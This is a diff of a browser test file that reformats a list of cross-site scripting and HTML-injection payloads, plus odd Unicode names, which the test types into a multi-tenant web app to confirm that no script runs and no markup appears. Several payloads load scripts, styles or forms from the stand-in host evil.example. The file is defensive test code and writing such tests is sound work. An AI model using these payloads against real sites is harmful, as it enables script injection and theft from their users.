@@ -6,24 +6,58 @@ import { Person, WIDTHS, link } from './screens.mjs';
 
 const RUN = 'window.ran=1';
 const PAYLOADS = [
-  `<script>${RUN}</script>`, `<script src=//evil.example/x.js></script>`, `<img src=x onerror=${RUN}>`,
-  `<img src=//evil.example/x.png>`, `<svg onload=${RUN}>`, `<svg/onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`,
-  `<iframe src="javascript:parent.${RUN}"></iframe>`, `<iframe srcdoc="<script>parent.${RUN}</script>">`,
-  `<body onload=${RUN}>`, `<details open ontoggle=${RUN}>x`, `<input autofocus onfocus=${RUN}>`,
-  `<video><source onerror=${RUN}></video>`, `<a href="javascript:${RUN}">x</a>`, `javascript:${RUN}`,
-  `"><script>${RUN}</script>`, `'><img src=x onerror=${RUN}>`, `" onmouseover="${RUN}`, `' autofocus onfocus='${RUN}`,
-  `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</style><script>${RUN}</script>`,
-  `--><script>${RUN}</script>`, `]]><script>${RUN}</script>`, `<style>*{display:none}</style>`,
-  `<link rel=stylesheet href=//evil.example/x.css>`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content=0>`,
-  `<form action=//evil.example><button>x`, `<math><mtext><script>${RUN}</script>`, `<object data=//evil.example/x>`,
-  `<embed src=//evil.example/x>`, `<template><script>${RUN}</script></template>`, `<marquee onstart=${RUN}>x</marquee>`,
-  '{{constructor.constructor("window.ran=1")()}}', '${window.ran=1}', '%3Cscript%3Ewindow.ran=1%3C/script%3E',
-  '&lt;script&gt;window.ran=1&lt;/script&gt;', '\\u003cscript\\u003ewindow.ran=1', `<ScRiPt>${RUN}</sCrIpT>`,
+  `<script>${RUN}</script>`,
+  `<script src=//evil.example/x.js></script>`,
+  `<img src=x onerror=${RUN}>`,
+  `<img src=//evil.example/x.png>`,
+  `<svg onload=${RUN}>`,
+  `<svg/onload=${RUN}>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<iframe src="javascript:parent.${RUN}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
+  `<body onload=${RUN}>`,
+  `<details open ontoggle=${RUN}>x`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<video><source onerror=${RUN}></video>`,
+  `<a href="javascript:${RUN}">x</a>`,
+  `javascript:${RUN}`,
+  `"><script>${RUN}</script>`,
+  `'><img src=x onerror=${RUN}>`,
+  `" onmouseover="${RUN}`,
+  `' autofocus onfocus='${RUN}`,
+  `</title><script>${RUN}</script>`,
+  `</textarea><script>${RUN}</script>`,
+  `</style><script>${RUN}</script>`,
+  `--><script>${RUN}</script>`,
+  `]]><script>${RUN}</script>`,
+  `<style>*{display:none}</style>`,
+  `<link rel=stylesheet href=//evil.example/x.css>`,
+  `<base href=//evil.example/>`,
+  `<meta http-equiv=refresh content=0>`,
+  `<form action=//evil.example><button>x`,
+  `<math><mtext><script>${RUN}</script>`,
+  `<object data=//evil.example/x>`,
+  `<embed src=//evil.example/x>`,
+  `<template><script>${RUN}</script></template>`,
+  `<marquee onstart=${RUN}>x</marquee>`,
+  '{{constructor.constructor("window.ran=1")()}}',
+  '${window.ran=1}',
+  '%3Cscript%3Ewindow.ran=1%3C/script%3E',
+  '&lt;script&gt;window.ran=1&lt;/script&gt;',
+  '\\u003cscript\\u003ewindow.ran=1',
+  `<ScRiPt>${RUN}</sCrIpT>`,
 ];
 // Of these a name may have all but the first, and an id of the tenant's own all of them.
 const STRANGE = [
-  '\u202Eevil\u202D\u2066', 'ש'.repeat(60), 'مرحبا بالعالم '.repeat(8), 'W'.repeat(120), '漢'.repeat(120), 'a\u0301\u0327\u0330'.repeat(30),
-  '👩‍👩‍👧‍👦'.repeat(10), '_'.repeat(120), 'A name with two lines',
+  '\u202Eevil\u202D\u2066',
+  'ש'.repeat(60),
+  'مرحبا بالعالم '.repeat(8),
+  'W'.repeat(120),
+  '漢'.repeat(120),
+  'a\u0301\u0327\u0330'.repeat(30),
+  '👩‍👩‍👧‍👦'.repeat(10),
+  '_'.repeat(120),
+  'A name with two lines',
 ];
 const [, ...STRANGE_NAMES] = STRANGE;
 const ROLE = '00000000-0000-4000-8000-000000000003';
@@ -66,7 +100,8 @@ async function all(person, count) {
   }
   const made = await person.page.evaluate(() => [
     window.ran,
-    document.querySelectorAll('#content :is(script, img, svg, iframe, style, link, base, meta, video, object, embed)').length,
+    document.querySelectorAll('#content :is(script, img, svg, iframe, style, link, base, meta, video, object, embed)')
+      .length,
   ]);
   expect(made[0] === undefined && made[1] === 0, `a text became markup: ${made}`);
   for (const width of WIDTHS) {
@@ -99,7 +134,8 @@ export async function hostile() {
     await all(person, count);
   }
   await person.visit('Audit events', 'hostile audit events');
-  for (const details of await page.locator('#content details').all()) await details.evaluate((made) => (made.open = true));
+  for (const details of await page.locator('#content details').all())
+    await details.evaluate((made) => (made.open = true));
   await all(person, 0);
 
   // As a tenant's name: in the list, the menu, the title, and in a question.
